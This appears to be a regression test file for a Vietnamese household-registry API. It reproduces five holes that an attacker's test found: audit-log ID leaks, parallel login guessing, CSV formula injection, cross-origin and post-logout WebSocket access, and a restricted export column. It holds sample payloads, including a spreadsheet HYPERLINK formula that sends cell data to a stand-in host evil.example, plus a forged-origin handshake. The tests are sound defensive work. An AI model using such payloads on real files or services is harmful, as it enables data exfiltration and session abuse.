// The five holes an attacker's test found (issue 13), each reproduced as the attack was made:
// ID numbers through the audit log, parallel guesses past the login lockout, a formula in the
// import's error report, the live WebSocket from another origin and after sign-out, and an export
// column its reader may not see.
import { env, exports } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { insertSession, registryDb } from "../../src/db/registry";
import { sha256Hex } from "../../src/lib/encoding";
import { CAMPAIGN_2025, loadIntoD1, seedTenant } from "../fixtures/seeded-tenant";
import { householdBody, LUC_NGAN_VILLAGES } from "./fixtures";
import { api, ORIGIN, PASSWORD, U, type Who, world } from "./world";

const T = "/api/v1/tenants/luc-ngan";
const ID_NUMBER = householdBody().members[0]!.idNumber;

beforeAll(async () => {
  const w = await world();
  const seeded = await seedTenant({
    seed: 13,
    households: 40,
    villages: LUC_NGAN_VILLAGES,
    reviewers: [w.userId.enumerator],
    decidedCommuneId: U.communeB,
  });
  await loadIntoD1(env.DB_LUC_NGAN, seeded);
});

describe("1. ID numbers through the audit log", () => {
  it("shows the supervisor (Fatherland Front) no ID number of a create, update, split, merge or import", async () => {
    await world();
    const h = await api("enumerator", "POST", `${T}/households`, householdBody(U.villageA1, "Ma Văn Khoa"));
    expect(h.status).toBe(201);
    const [head, , child] = h.body.members;
    const updated = await api("enumerator", "PATCH", `${T}/households/${h.body.id}`, {
      members: h.body.members.map((m: any) => (m.id === head.id ? { ...m, idNumber: "024075000456" } : m)),
      version: 1,
    });
    expect(updated.status).toBe(200);
    const split = await api("enumerator", "POST", `${T}/households/${h.body.id}/split`, {
      memberIds: [child.id],
      newHousehold: { headName: "Nguyễn Văn Cường" },
      version: 2,
    });
    expect(split.status).toBe(201);
    const merged = await api("enumerator", "POST", `${T}/households/${split.body.created.id}/merge`, {
      intoId: h.body.id,
      intoVersion: 3,
      version: 1,
    });
    expect(merged.status).toBe(200);

    for (const entityId of [h.body.id, split.body.created.id]) {
      const seen = await api("supervisor", "GET", `${T}/audit?entityId=${entityId}`);
      expect(seen.status).toBe(200);
      expect(seen.body.items.length).toBeGreaterThanOrEqual(2);
      const text = JSON.stringify(seen.body);
      expect(text).not.toContain(ID_NUMBER);
      expect(text).not.toContain("024075000456");
    }
    // Those who may read ID numbers still see them in the history.
    const officer = JSON.stringify((await api("commune_officer", "GET", `${T}/audit?entityId=${h.body.id}`)).body);
    expect(officer).toContain(ID_NUMBER);
    expect(officer).toContain("024075000456");
    const update = (await api("supervisor", "GET", `${T}/audit?entityId=${h.body.id}`)).body.items[1];
    // The change itself stays visible: the number was changed, what it was is hidden.
    expect(update.changes).toContainEqual({
      field: `members.${head.id}.idNumber`,
      before: expect.any(String),
      after: expect.any(String),
    });
  });

  it("hides the ID numbers of an imported household too", async () => {
    const w = await world();
    const csv = [
      "Mã hộ,Địa chỉ,Họ và tên,Giới tính,Năm sinh,Dân tộc,Quan hệ với chủ hộ,Số CCCD",
      "K01,Xóm Bãi,Lò Văn Pản,Nam,1970,Thái,Chủ hộ,024070000777",
    ].join("\r\n");
    const job = await exports.default.fetch(
      new Request(`${ORIGIN}${T}/imports?villageId=${U.villageA1}&fileName=k.csv`, {
        method: "POST",
        headers: { "Content-Type": "text/csv", Authorization: `Bearer ${w.token.enumerator}` },
        body: csv,
      }),
    );
    expect(job.status).toBe(202);
    await importDone("enumerator", ((await job.json()) as any).id);
    const found = await api("enumerator", "GET", `${T}/households?q=lo van pan`);
    const id = found.body.items[0].id;
    const seen = await api("supervisor", "GET", `${T}/audit?entityId=${id}`);
    expect(seen.body.items.map((e: any) => e.action)).toEqual(["import"]);
    expect(JSON.stringify(seen.body)).not.toContain("024070000777");
    expect(JSON.stringify((await api("district_viewer", "GET", `${T}/audit?entityId=${id}`)).body)).toContain(
      "024070000777",
    );
  });
});

describe("2. parallel guesses against the login lockout", () => {
  it("checks at most 5 of 30 guesses sent at once (the right one among them) and answers the rest 429", async () => {
    await world();
    const guesses = Array.from({ length: 30 }, (_, i) => (i === 17 ? PASSWORD : `sai-mat-khau-${i}`));
    const answers = await Promise.all(
      guesses.map((password) =>
        exports.default.fetch(
          new Request(`${ORIGIN}/api/v1/auth/login`, {
            method: "POST",
            headers: { "Content-Type": "application/json", "CF-Connecting-IP": "203.0.113.7" },
            body: JSON.stringify({ username: "district.viewer", password }),
          }),
        ),
      ),
    );
    const checked = answers.filter((r) => r.status === 401 || r.status === 200);
    const refused = answers.filter((r) => r.status === 429);
    expect(checked.length).toBeLessThanOrEqual(5);
    expect(checked.length + refused.length).toBe(30);
    for (const r of refused) {
      expect(Number(r.headers.get("Retry-After"))).toBeGreaterThan(0);
      expect(((await r.json()) as any).error.code).toBe("rate_limited");
    }
  }, 30_000);
});

async function importDone(who: Who, id: string) {
  for (let i = 0; i < 200; i++) {
    const r = await api(who, "GET", `${T}/imports/${id}`);
    if (r.body.status === "done" || r.body.status === "failed") return r.body;
    await new Promise((ok) => setTimeout(ok, 50));
  }
  throw new Error("import did not finish");
}

describe("3. a formula in the import's error report", () => {
  it("gives the officer the reviewer's cell as text, not as a formula a spreadsheet would run", async () => {
    const w = await world();
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    const csv = [
      "Mã hộ,Địa chỉ,Họ và tên,Giới tính,Năm sinh,Dân tộc,Quan hệ với chủ hộ",
      `F01,Xóm Đá,Hà Văn Hải,Nam,1980,"${formula.replace(/"/g, '""')}",Chủ hộ`,
      "F02,Xóm Đá,Hà Thị Hoa,Nữ,1982,@SUM(1+1),Chủ hộ",
      "F03,Xóm Đá,Hà Văn Hùng,Nam,1984,+cmd,Chủ hộ",
      "F04,Xóm Đá,Hà Văn Hưng,Nam,1984,-2+3,Chủ hộ",
    ].join("\r\n");
    const job = await exports.default.fetch(
      new Request(`${ORIGIN}${T}/imports?villageId=${U.villageA1}&fileName=f.csv`, {
        method: "POST",
        headers: { "Content-Type": "text/csv", Authorization: `Bearer ${w.token.enumerator}` },
        body: csv,
      }),
    );
    const started = (await job.json()) as any;
    expect(job.status, JSON.stringify(started)).toBe(202);
    const done = await importDone("enumerator", started.id);
    expect(done.errorCount).toBeGreaterThanOrEqual(4);
    const report = await exports.default.fetch(
      new Request(`${ORIGIN}${done.errorReportUrl}`, {
        headers: { Authorization: `Bearer ${w.token.commune_officer}` },
      }),
    );
    expect(report.status).toBe(200);
    const text = (await report.text()).replace(/^\uFEFF/, "");
    const cells = text.split("\r\n").flatMap((line) => parseCsvLine(line));
    expect(cells).toContain(`'${formula}`);
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  }, 20_000);
});

/** The cells of one CSV line (RFC 4180 quoting). */
function parseCsvLine(line: string): string[] {
  const out: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      out.push(cell);
      cell = "";
    } else cell += ch;
  }
  out.push(cell);
  return out;
}

interface Socket {
  ws: WebSocket;
  messages: any[];
  closed: Promise<number>;
}

async function connect(headers: Record<string, string>): Promise<Socket> {
  const res = await exports.default.fetch(
    new Request(`${ORIGIN}${T}/villages/${U.villageA1}/live`, { headers: { Upgrade: "websocket", ...headers } }),
  );
  expect(res.status).toBe(101);
  const ws = res.webSocket!;
  ws.accept();
  const messages: any[] = [];
  ws.addEventListener("message", (e) => messages.push(JSON.parse(e.data as string)));
  const closed = new Promise<number>((ok) => ws.addEventListener("close", (e) => ok(e.code)));
  return { ws, messages, closed };
}

describe("4. the live WebSocket", () => {
  it("refuses a handshake from another origin made with the session cookie", async () => {
    const w = await world();
    const res = await exports.default.fetch(
      new Request(`${ORIGIN}${T}/villages/${U.villageA1}/live`, {
        headers: { Upgrade: "websocket", Cookie: `session=${w.token.enumerator}`, Origin: "https://evil.example" },
      }),
    );
    expect(res.status).toBe(403);
    expect(res.webSocket).toBeNull();
    const own = await connect({ Cookie: `session=${w.token.enumerator}`, Origin: ORIGIN });
    own.ws.close();
  });

  it("stops sending changes once the session is signed out, and closes the socket", async () => {
    const w = await world();
    const h = await api("enumerator", "POST", `${T}/households`, householdBody(U.villageA1, "Đàm Văn Lực"));
    const token = `live-${crypto.randomUUID()}`;
    await insertSession(registryDb(env.REGISTRY), await sha256Hex(token), w.userId.supervisor, 3600);
    const leaving = await connect({ Authorization: `Bearer ${token}` });
    const staying = await connect({ Authorization: `Bearer ${w.token.commune_officer}` });
    const out = await exports.default.fetch(
      new Request(`${ORIGIN}/api/v1/auth/logout`, { method: "POST", headers: { Authorization: `Bearer ${token}` } }),
    );
    expect(out.status).toBe(204);
    await api("commune_officer", "PATCH", `${T}/households/${h.body.id}`, { address: "Sau khi đăng xuất", version: 1 });
    for (let i = 0; i < 100 && !staying.messages.some((m) => m.type === "change"); i++)
      await new Promise((ok) => setTimeout(ok, 20));
    expect(staying.messages.some((m) => m.type === "change" && m.id === h.body.id)).toBe(true);
    expect(await leaving.closed).toBe(4401);
    expect(leaving.messages.filter((m) => m.type === "change")).toEqual([]);
    // Presence tells who is there, never the session they came with.
    expect(JSON.stringify(staying.messages)).not.toContain(await sha256Hex(token));
    staying.ws.close();
  });

  it("closes the socket of an expired session at the next message", async () => {
    const w = await world();
    const token = `short-live-${crypto.randomUUID()}`;
    await insertSession(registryDb(env.REGISTRY), await sha256Hex(token), w.userId.enumerator, 1);
    const s = await connect({ Authorization: `Bearer ${token}` });
    await new Promise((ok) => setTimeout(ok, 1100));
    s.ws.send(JSON.stringify({ type: "ping" }));
    expect(await s.closed).toBe(4401);
    expect(s.messages.some((m) => m.type === "pong")).toBe(false);
  });
});

describe("5. an export column its reader may not see", () => {
  it("keeps a commune officer from a district's progress export that carries the falsification signals", async () => {
    const created = await api("district_admin", "POST", `${T}/exports`, {
      campaignId: CAMPAIGN_2025,
      form: "progress",
      format: "csv",
      unitId: U.communeA,
    });
    expect(created.status).toBe(202);
    let status: any;
    for (let i = 0; i < 100; i++) {
      status = (await api("district_admin", "GET", `${T}/exports/${created.body.id}`)).body;
      if (status.status === "done") break;
      await new Promise((ok) => setTimeout(ok, 50));
    }
    expect(status.status).toBe("done");
    const fetchAs = async (who: Who, url: string) =>
      exports.default.fetch(
        new Request(`${ORIGIN}${url}`, { headers: { Authorization: `Bearer ${(await world()).token[who]}` } }),
      );
    const officer = await fetchAs("commune_officer", status.downloadUrl);
    expect(officer.status).toBe(403);
    expect(await officer.text()).not.toContain("Dấu hiệu bất thường");
    expect((await fetchAs("commune_officer", `${T}/exports/${created.body.id}`)).status).toBe(403);
    // The district's own staff with the right still download it, column and all.
    const viewer = await fetchAs("district_viewer", status.downloadUrl);
    expect(viewer.status).toBe(200);
    expect(await viewer.text()).toContain("Dấu hiệu bất thường chưa kiểm tra");
    // The officer's own progress export has no such column, and is theirs to download.
    const own = await api("commune_officer", "POST", `${T}/exports`, {
      campaignId: CAMPAIGN_2025,
      form: "progress",
      format: "csv",
    });
    expect(own.status).toBe(202);
    for (let i = 0; i < 100; i++) {
      status = (await api("commune_officer", "GET", `${T}/exports/${own.body.id}`)).body;
      if (status.status === "done") break;
      await new Promise((ok) => setTimeout(ok, 50));
    }
    const mine = await fetchAs("commune_officer", status.downloadUrl);
    expect(mine.status).toBe(200);
    expect(await mine.text()).not.toContain("Dấu hiệu bất thường");
  }, 30_000);
});
